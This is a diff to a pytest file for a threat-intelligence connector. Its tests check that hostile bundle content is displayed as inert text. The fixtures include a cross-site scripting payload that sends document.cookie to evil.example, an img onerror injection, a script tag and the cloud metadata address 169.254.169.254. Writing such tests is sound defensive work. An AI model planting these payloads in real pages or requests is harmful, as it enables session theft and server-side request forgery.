@@ -2,13 +2,18 @@
 
 from __future__ import annotations
 
+import html
+import json
+import re
 from dataclasses import replace
 
 import pytest
 
+from eme_connector.domain.rights import Right
 from eme_connector.domain.threat import Asset, Decision, Status
-from tests.build import CERT, CI, detection, playbook, step
-from tests.pages.conftest import CORPORA, absent, waiting
+from eme_connector.usecases.receive import Rules, receive_bundle
+from tests.build import CERT, CI, detection, playbook, step, token
+from tests.pages.conftest import waiting
 
 MARKUP = [
     "<script>window.pwned = 1</script>",
@@ -81,7 +86,9 @@ def test_bidi_controls_are_spelled_out(site, look):
 
 def test_addresses_from_messages_are_no_links(site, look):
     acts = replace(step(1), execution_api="http://169.254.169.254/latest/meta-data")
-    threat = site.add(detection=detection(summary="see https://example.org", playbooks=(playbook(acts),)))
+    threat = site.add(
+        detection=detection(summary="see https://example.org", playbooks=(playbook(acts),))
+    )
     page = look("anna", f"/threats/{threat.id}")
 
     assert "http://169.254.169.254/latest/meta-data" in page.inner_text("main")
@@ -89,21 +96,58 @@ def test_addresses_from_messages_are_no_links(site, look):
     assert page.evaluate(outside) == 0
 
 
-def corpus(folder):
-    return sorted((CORPORA / folder).glob("*.json")) if CORPORA.name else []
+def test_every_leaf_of_every_bundle_is_on_its_card_or_in_its_data(site, corpora):
+    client = site.client("anna")
+    bundles = sorted((corpora / "iris").glob("*.json"))
+    assert bundles
+
+    for path in bundles:
+        raw = path.read_bytes()
+        for received in receive(site, raw):
+            card = shown(client.get(f"/threats/{received.threat.id}").text)
+            missing = [one for one in leaves(json.loads(raw)) if one not in card]
+            assert missing == [], path.name
 
 
-def test_every_leaf_of_every_bundle_is_on_its_card_or_in_its_data(site, look):
-    if not corpus("iris"):
-        absent("the corpora are missing: set EME_CORPORA")
+def test_the_hostile_bundle_does_nothing(site, corpora, look):
+    raw = (corpora / "iris-hostile/h08-markup-and-injection.json").read_bytes()
+    (received,) = receive(site, raw)
+    page = look("anna", "/threats")
+    assert "<script>fetch('//evil.example/'+document.cookie)</script>" in page.inner_text("main")
+
+    for path in ("", "/data"):
+        page.goto(f"/threats/{received.threat.id}{path}")
+        assert "<img src=x onerror=alert(1)>" in page.inner_text("main")
+        assert page.locator("main img, main script").count() == 0
+
+
+def receive(site, raw):
+    document = json.loads(raw)
+    sender = re.search(r'"organisation": *"([^"]+)"', raw.decode())[1]
+    ours = replace(site.eme.organisation, aliases=frozenset({sender}))
+    rules = Rules(ours, site.eme.orchestrator_lane)
+    return receive_bundle(
+        document,
+        raw,
+        caller=token(Right.INGEST, criticality_order="descending"),
+        rules=rules,
+        store=site.eme.store,
+        now=site.eme.clock(),
+    )
+
+
+def shown(page):
+    """Return what a page says, without its markup."""
+    return html.unescape(re.sub(r"<[^>]+>", "", page))
 
 
 def leaves(node):
     if isinstance(node, dict):
-        for value in node.values():
+        for key, value in node.items():
+            yield key
             yield from leaves(value)
     elif isinstance(node, list):
         for value in node:
             yield from leaves(value)
     else:
-        yield node
+        yield json.dumps(node, ensure_ascii=False).strip('"')
